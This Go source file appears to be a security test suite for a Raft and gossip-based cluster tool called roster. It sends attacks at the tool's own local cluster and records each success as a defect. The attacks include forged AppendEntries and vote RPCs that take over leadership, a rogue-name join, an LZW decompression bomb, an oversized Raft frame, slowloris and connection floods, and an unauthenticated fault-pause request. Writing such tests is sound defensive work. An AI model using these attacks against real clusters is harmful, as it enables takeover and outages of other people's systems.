package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/hashicorp/raft"
	"golang.org/x/sys/unix"

	"roster/peer/api"
	"roster/peer/fsm"
	"roster/peer/secure"
)

// probe is one attack and how to judge it.
type probe struct {
	name, attack string
	// needsKey: only a cluster key can stop it (the attacker sends from a
	// peer's own address); an open cluster is not held to it.
	needsKey bool
	// keyOnly: the probe means something only with a key.
	keyOnly bool
	// extra peer flags for the cluster of this probe.
	extra []string
	run   func(ctx context.Context, e *env) string
}

// env is what a probe acts on.
type env struct {
	c      *cluster
	killed map[int]bool
	// failed is set by the probe when what it saw is a defect.
	failed bool
}

func (e *env) fail(format string, a ...any) string {
	e.failed = true
	return fmt.Sprintf(format, a...)
}

// probes lists the suite, in the order run.
var probes = []probe{
	{name: "push-pull-header", attack: "issue 9 #1: 29-byte push/pull header with Nodes: -1 to every gossip TCP port (plain and labelled, from a stranger's and from a peer's address)", run: probePushPull},
	{name: "forged-append", attack: "issue 9 #2: AppendEntries with a huge term and an entry removing every other peer, from a stranger's address", run: forgedAppend(false)},
	{name: "forged-append-peer-ip", attack: "as forged-append, sent from peer one's own address", needsKey: true, run: forgedAppend(true)},
	{name: "timeout-now", attack: "issue 9 #2: TimeoutNow to a follower, from a stranger's address", run: timeoutNow(false)},
	{name: "timeout-now-peer-ip", attack: "as timeout-now, from peer one's own address", needsKey: true, run: timeoutNow(true)},
	{name: "request-vote", attack: "RequestVote (leadership transfer, huge term) to the leader, from a stranger's address", run: requestVote(false)},
	{name: "rogue-name", attack: "issue 9 #3: a real roster process claims the name of a peer that is down, from another address (with a key: a wrong key)", run: rogueName},
	{name: "lzw-bomb", attack: "issue 9 #4: 60 UDP packets, 0x09 + LZW of 84 MB of zeros, to the leader (plain and labelled, from a stranger's and a peer's address)", run: lzwBombProbe},
	{name: "huge-raft-frame", attack: "issue 9 #5: Raft frame declaring a 4 GiB entry, then data for 8 s, to a follower (from a stranger's and from a peer's address)", run: hugeFrame},
	{name: "idle-conns", attack: "issue 9 #6: fd limit 400 on a follower; 2,000 idle TCP connections to its Raft port and 2,000 keep-alive HTTP connections to its API; then another peer restarts", run: idleConns},
	{name: "slowloris", attack: "30 connections to each TCP port of a follower, one byte every 500 ms", run: slowloris},
	{name: "garbage", attack: "2,000 random UDP packets and 300 random TCP payloads to every port of a follower", run: garbage},
	{name: "wrong-key-gossip", attack: "500 gossip packets sealed with another key (labelled, AES-GCM) to every peer", keyOnly: true, run: wrongKey},
	{name: "fault-api", attack: "issue 9 #10: POST /faults/pause?for=876000h to a follower started with --faults, no token", extra: []string{"--faults"}, run: faultAPI},
}

// alivePause lets a probe's effects show before it is judged.
const alivePause = 2 * time.Second

func probePushPull(ctx context.Context, e *env) string {
	c := e.c
	for id := 1; id <= len(names); id++ {
		for _, from := range []net.IP{c.attackerIP(), net.ParseIP(c.ip(1))} {
			for _, msg := range [][]byte{pushPullHeader, labelled("roster", pushPullHeader)} {
				if conn, err := dialFrom(c.addr(id, gossipPort), from); err == nil {
					conn.Write(msg)
					time.Sleep(50 * time.Millisecond)
					conn.Close()
				}
			}
		}
	}
	time.Sleep(alivePause)
	return "sent to 5 peers"
}

func dialFrom(addr string, from net.IP) (net.Conn, error) {
	d := net.Dialer{Timeout: 2 * time.Second}
	if from != nil {
		d.LocalAddr = &net.TCPAddr{IP: from}
	}
	return d.Dial("tcp", addr)
}

// forgedAppend learns the target's last log index through AppendEntries
// answers, finds its last term, then appends and commits an entry that
// removes every other peer.
func forgedAppend(fromPeer bool) func(context.Context, *env) string {
	return func(ctx context.Context, e *env) string {
		c := e.c
		target := c.follower()
		var from net.IP = c.attackerIP()
		if fromPeer {
			from = net.ParseIP(c.ip(1))
		}
		st, err := c.status(target)
		if err != nil {
			return e.fail("target unreachable: %v", err)
		}
		rc, err := dialRaft(c.addr(target, raftPort), from)
		if err != nil {
			return "refused: " + short(err)
		}
		defer rc.Close()
		const term = 1 << 40
		h := header(1, c.addr(1, raftPort))
		var resp raft.AppendEntriesResponse
		if err := rc.call(rpcAppendEntries, &raft.AppendEntriesRequest{RPCHeader: h, Term: term}, &resp); err != nil {
			return "refused: " + short(err)
		}
		last := resp.LastLog
		prevTerm := uint64(0)
		for t := uint64(1); t < 200 && prevTerm == 0; t++ {
			if err := rc.call(rpcAppendEntries, &raft.AppendEntriesRequest{RPCHeader: h, Term: term, PrevLogEntry: last, PrevLogTerm: t}, &resp); err != nil {
				return "refused: " + short(err)
			}
			if resp.Success {
				prevTerm = t
			}
		}
		var del []int
		for id := 1; id <= len(names); id++ {
			if id != target {
				del = append(del, id)
			}
		}
		forged := fsm.Change{Base: st.View.ID, Del: del, Leader: 1}
		req := &raft.AppendEntriesRequest{RPCHeader: h, Term: term, PrevLogEntry: last, PrevLogTerm: prevTerm,
			Entries:           []*raft.Log{{Index: last + 1, Term: term, Type: raft.LogCommand, Data: forged.Encode()}},
			LeaderCommitIndex: last + 1}
		if err := rc.call(rpcAppendEntries, req, &resp); err != nil {
			return "refused: " + short(err)
		}
		time.Sleep(alivePause)
		now, err := c.status(target)
		if err == nil && now.View.ID == st.View.ID+1 && len(now.View.Members) == 1 {
			return e.fail("FORGED VIEW INSTALLED at peer %d: view %d %v", target, now.View.ID, now.View.Members)
		}
		if resp.Success {
			return e.fail("entry accepted (success=true) but view %d %v", now.View.ID, now.View.Members)
		}
		return "entry not accepted"
	}
}

func timeoutNow(fromPeer bool) func(context.Context, *env) string {
	return func(ctx context.Context, e *env) string {
		c := e.c
		target := c.follower()
		var from net.IP = c.attackerIP()
		if fromPeer {
			from = net.ParseIP(c.ip(1))
		}
		rc, err := dialRaft(c.addr(target, raftPort), from)
		if err != nil {
			return "refused: " + short(err)
		}
		defer rc.Close()
		var resp raft.TimeoutNowResponse
		if err := rc.call(rpcTimeoutNow, &raft.TimeoutNowRequest{RPCHeader: header(1, c.addr(1, raftPort))}, &resp); err != nil {
			return "refused: " + short(err)
		}
		if _, err := c.waitView(ctx, target, 3*time.Second, func(s api.Status) bool { return s.State == "Leader" }); err == nil {
			return e.fail("PEER %d MADE LEADER by the attacker", target)
		}
		return e.fail("accepted, peer %d did not become leader", target)
	}
}

func requestVote(fromPeer bool) func(context.Context, *env) string {
	return func(ctx context.Context, e *env) string {
		c := e.c
		target := c.leader()
		if target == 0 {
			return e.fail("no leader to attack")
		}
		var from net.IP = c.attackerIP()
		if fromPeer {
			from = net.ParseIP(c.ip(1))
		}
		rc, err := dialRaft(c.addr(target, raftPort), from)
		if err != nil {
			return "refused: " + short(err)
		}
		defer rc.Close()
		const term = 1 << 40
		var resp raft.RequestVoteResponse
		req := &raft.RequestVoteRequest{RPCHeader: header(9, c.attackerIP().String()+":8080"), Term: term, LastLogIndex: term, LastLogTerm: term, LeadershipTransfer: true}
		if err := rc.call(rpcRequestVote, req, &resp); err != nil {
			return "refused: " + short(err)
		}
		if resp.Granted {
			return e.fail("VOTE GRANTED by leader %d: it stepped down", target)
		}
		if st, err := c.status(target); err == nil && st.State != "Leader" {
			return e.fail("LEADER %d DEPOSED (now %s)", target, st.State)
		}
		return fmt.Sprintf("answered, not granted; %d still leads (the request reached Raft)", target)
	}
}

func rogueName(ctx context.Context, e *env) string {
	c := e.c
	victim := 3
	c.kill(victim)
	e.killed[victim] = true
	if _, err := c.waitView(ctx, 1, 15*time.Second, func(s api.Status) bool { return len(s.View.Members) == 4 }); err != nil {
		return e.fail("victim not removed: %v", err)
	}
	rogueIP := fmt.Sprintf("%s.98", c.block)
	hosts := strings.Replace(readFile(c.hosts), c.ip(victim)+"\n", rogueIP+"\n", 1)
	path := filepath.Join(c.dir, "rogue-hosts")
	os.WriteFile(path, []byte(hosts), 0o644)
	args := []string{"-h", path, "--name", names[victim-1], "--bind", rogueIP, "--log-level", "warn"}
	if c.key != "" {
		other, _ := secure.GenerateKey()
		args = append(args, "--encrypt", other)
	}
	// Let memberlist declare the victim dead too, so its name can be
	// reclaimed from a new address.
	time.Sleep(6 * time.Second)
	if err := c.startProc(98, "rogue", exec.Command(c.bin, args...)); err != nil {
		return e.fail("rogue did not start: %v", err)
	}
	e.killed[98] = true
	defer c.kill(98)
	deadline := time.Now().Add(12 * time.Second)
	for time.Now().Before(deadline) {
		for _, l := range c.output() {
			if strings.HasPrefix(l, "rogue | {") && strings.Contains(l, "memb_list") {
				return e.fail("ROGUE ADMITTED: %s", strings.TrimPrefix(l, "rogue | "))
			}
		}
		time.Sleep(200 * time.Millisecond)
	}
	if st, err := c.status(1); err == nil && st.View.Contains(victim) {
		return e.fail("ROGUE ADMITTED: view %d %v", st.View.ID, st.View.Members)
	}
	return "refused: never in a view"
}

func readFile(p string) string {
	b, _ := os.ReadFile(p)
	return string(b)
}

func lzwBombProbe(ctx context.Context, e *env) string {
	c := e.c
	target := c.leader()
	bomb := lzwBomb(84 << 20)
	sent := 0
	for i := range 60 {
		var from net.IP = c.attackerIP()
		if i%2 == 1 {
			from = net.ParseIP(c.ip(1))
		}
		msg := bomb
		if i%4 >= 2 {
			msg = labelled("roster", bomb)
		}
		conn, err := net.DialUDP("udp", &net.UDPAddr{IP: from}, &net.UDPAddr{IP: net.ParseIP(c.ip(target)), Port: gossipPort})
		if err != nil {
			continue
		}
		if _, err := conn.Write(msg); err == nil {
			sent++
		}
		conn.Close()
		time.Sleep(50 * time.Millisecond)
	}
	time.Sleep(3 * time.Second)
	st, err := c.status(1)
	if err != nil || !st.View.Contains(target) {
		return e.fail("LEADER %d REMOVED (view %v)", target, st.View.Members)
	}
	return fmt.Sprintf("%d packets of %d bytes to leader %d; still a member", sent, len(bomb), target)
}

func hugeFrame(ctx context.Context, e *env) string {
	c := e.c
	target := c.follower()
	before := elections(c.output())
	var outs []string
	for _, from := range []net.IP{c.attackerIP(), net.ParseIP(c.ip(1))} {
		conn, err := dialFrom(c.addr(target, raftPort), from)
		if err != nil {
			outs = append(outs, "refused")
			continue
		}
		conn.Write(hugeEntryFrame(header(1, c.addr(1, raftPort))))
		chunk := make([]byte, 1<<20)
		var n int64
		deadline := time.Now().Add(8 * time.Second)
		for time.Now().Before(deadline) {
			conn.SetWriteDeadline(deadline)
			k, err := conn.Write(chunk)
			n += int64(k)
			if err != nil {
				break
			}
		}
		conn.Close()
		outs = append(outs, fmt.Sprintf("%d MB taken", n>>20))
	}
	time.Sleep(alivePause)
	el := elections(c.output()) - before
	msg := fmt.Sprintf("to peer %d: %s; %d elections", target, strings.Join(outs, ", "), el)
	if el > 0 {
		return e.fail("%s", msg)
	}
	return msg
}

// elections counts the elections peers started (their warn lines).
func elections(lines []string) int {
	n := 0
	for _, l := range lines {
		if strings.Contains(l, "starting election") {
			n++
		}
	}
	return n
}

func idleConns(ctx context.Context, e *env) string {
	c := e.c
	target := c.follower()
	c.mu.Lock()
	pid := c.procs[target].cmd.Process.Pid
	c.mu.Unlock()
	lim := unix.Rlimit{Cur: 400, Max: 400}
	if err := unix.Prlimit(pid, unix.RLIMIT_NOFILE, &lim, nil); err != nil {
		return e.fail("prlimit: %v", err)
	}
	var conns []net.Conn
	defer func() {
		for _, x := range conns {
			x.Close()
		}
	}()
	for range 2000 {
		if x, err := dialFrom(c.addr(target, raftPort), c.attackerIP()); err == nil {
			conns = append(conns, x)
		}
	}
	for range 2000 {
		x, err := dialFrom(c.addr(target, apiPort), c.attackerIP())
		if err != nil {
			continue
		}
		conns = append(conns, x)
		fmt.Fprintf(x, "GET /health HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n")
	}
	// Another follower restarts, and must be re-added.
	other := 0
	for id := len(names); id >= 1; id-- {
		if id != target && id != c.leader() {
			other = id
			break
		}
	}
	leader := c.leader()
	e.killed[other] = true
	c.kill(other)
	if _, err := c.waitView(ctx, leader, 15*time.Second, func(s api.Status) bool { return !s.View.Contains(other) }); err != nil {
		return e.fail("peer %d not removed after its kill: %v", other, short(err))
	}
	if err := c.start(other); err != nil {
		return e.fail("restart: %v", err)
	}
	_, rejoin := c.waitView(ctx, leader, 20*time.Second, func(s api.Status) bool { return s.View.Contains(other) })
	_, apiErr := c.status(target)
	held := 0
	for _, x := range conns {
		x.SetReadDeadline(time.Now().Add(time.Millisecond))
		var b [1]byte
		_, err := x.Read(b[:])
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			held++
		} else if err == nil {
			held++ // answered and kept alive
		}
	}
	msg := fmt.Sprintf("%d of %d connections held open; ", held, len(conns))
	if rejoin != nil {
		return e.fail("%speer %d not re-added: %v", msg, other, short(rejoin))
	}
	if apiErr != nil {
		return e.fail("%speer %d re-added, but the API of peer %d does not answer: %v", msg, other, target, short(apiErr))
	}
	return msg + fmt.Sprintf("peer %d restarted and re-added; API answers", other)
}

func slowloris(ctx context.Context, e *env) string {
	c := e.c
	target := c.follower()
	const per = 30
	const limit = 15 * time.Second
	var outs []string
	for _, port := range []int{raftPort, gossipPort, apiPort} {
		var wg sync.WaitGroup
		var mu sync.Mutex
		var longest time.Duration
		open := 0
		for range per {
			x, err := dialFrom(c.addr(target, port), c.attackerIP())
			if err != nil {
				continue
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer x.Close()
				start := time.Now()
				// A valid beginning, never finished.
				payload := []byte("GET /health HTTP/1.1\r\nHost: x\r\n")
				switch port {
				case raftPort:
					payload = hugeEntryFrame(header(1, c.addr(1, raftPort)))
				case gossipPort:
					payload = pushPullHeader
				}
				for i := 0; time.Since(start) < limit; i++ {
					x.SetDeadline(time.Now().Add(500 * time.Millisecond))
					if _, err := x.Write(payload[i%len(payload) : i%len(payload)+1]); err != nil {
						break
					}
					var b [64]byte
					if _, err := x.Read(b[:]); err != nil {
						if ne, ok := err.(net.Error); !ok || !ne.Timeout() {
							break
						}
					}
				}
				d := time.Since(start)
				mu.Lock()
				longest = max(longest, d)
				if d >= limit {
					open++
				}
				mu.Unlock()
			}()
		}
		wg.Wait()
		name := map[int]string{raftPort: "raft", gossipPort: "gossip", apiPort: "api"}[port]
		if open > 0 {
			outs = append(outs, fmt.Sprintf("%s: %d held %s+", name, open, limit))
		} else {
			outs = append(outs, fmt.Sprintf("%s: all closed within %.1fs", name, longest.Seconds()))
		}
	}
	msg := strings.Join(outs, "; ")
	if strings.Contains(msg, "held") {
		return e.fail("%s", msg)
	}
	return msg
}

// diagLines counts the lines a peer printed that are not view lines.
func diagLines(lines []string, name string) int {
	n := 0
	for _, l := range lines {
		if strings.HasPrefix(l, name+" | ") && !strings.HasPrefix(l, name+" | {") {
			n++
		}
	}
	return n
}

// maxLogLines is the most log lines a burst of bad input may cost a peer.
const maxLogLines = 30

func garbage(ctx context.Context, e *env) string {
	c := e.c
	target := c.follower()
	name := names[target-1]
	before := diagLines(c.output(), name)
	buf := make([]byte, 1400)
	if u, err := net.DialUDP("udp", &net.UDPAddr{IP: c.attackerIP()}, &net.UDPAddr{IP: net.ParseIP(c.ip(target)), Port: gossipPort}); err == nil {
		for i := range 2000 {
			rand.Read(buf)
			u.Write(buf[:1+i%len(buf)])
			if i%100 == 0 {
				time.Sleep(10 * time.Millisecond)
			}
		}
		u.Close()
	}
	for _, port := range []int{raftPort, gossipPort, apiPort} {
		for range 100 {
			x, err := dialFrom(c.addr(target, port), c.attackerIP())
			if err != nil {
				continue
			}
			rand.Read(buf[:1024])
			x.SetDeadline(time.Now().Add(200 * time.Millisecond))
			x.Write(buf[:1024])
			io.Copy(io.Discard, x)
			x.Close()
		}
	}
	time.Sleep(alivePause)
	n := diagLines(c.output(), name) - before
	msg := fmt.Sprintf("peer %d logged %d lines for 2,300 bad inputs", target, n)
	if n > maxLogLines {
		return e.fail("%s", msg)
	}
	return msg
}

func wrongKey(ctx context.Context, e *env) string {
	c := e.c
	key := make([]byte, 32)
	rand.Read(key)
	block, _ := aes.NewCipher(key)
	gcm, _ := cipher.NewGCM(block)
	ping := []byte{0, 0x82, 0xa5, 'S', 'e', 'q', 'N', 'o', 1, 0xa4, 'N', 'o', 'd', 'e', 0xa3, 'o', 'n', 'e'}
	for id := 1; id <= len(names); id++ {
		u, err := net.DialUDP("udp", &net.UDPAddr{IP: c.attackerIP()}, &net.UDPAddr{IP: net.ParseIP(c.ip(id)), Port: gossipPort})
		if err != nil {
			continue
		}
		for range 100 {
			nonce := make([]byte, 12)
			rand.Read(nonce)
			sealed := append([]byte{1}, nonce...)
			sealed = gcm.Seal(sealed, nonce, ping, []byte("roster"))
			u.Write(labelled("roster", sealed))
		}
		u.Close()
	}
	time.Sleep(alivePause)
	return "500 packets sent; dropped"
}

func faultAPI(ctx context.Context, e *env) string {
	c := e.c
	target := c.follower()
	req, _ := http.NewRequest("POST", "http://"+c.addr(target, apiPort)+"/faults/pause?for=876000h", nil)
	resp, err := httpClient.Do(req)
	if err != nil {
		return "refused: " + short(err)
	}
	resp.Body.Close()
	if resp.StatusCode/100 == 2 {
		c.kill(target) // a paused peer is as good as dead; let the rest go on
		e.killed[target] = true
		return e.fail("PEER %d PAUSED for 100 years (HTTP %d)", target, resp.StatusCode)
	}
	return fmt.Sprintf("refused: HTTP %d", resp.StatusCode)
}

// short keeps the last part of an error.
func short(err error) string {
	if err == nil {
		return "ok"
	}
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 && len(s) > 80 {
		s = s[i+2:]
	}
	return s
}
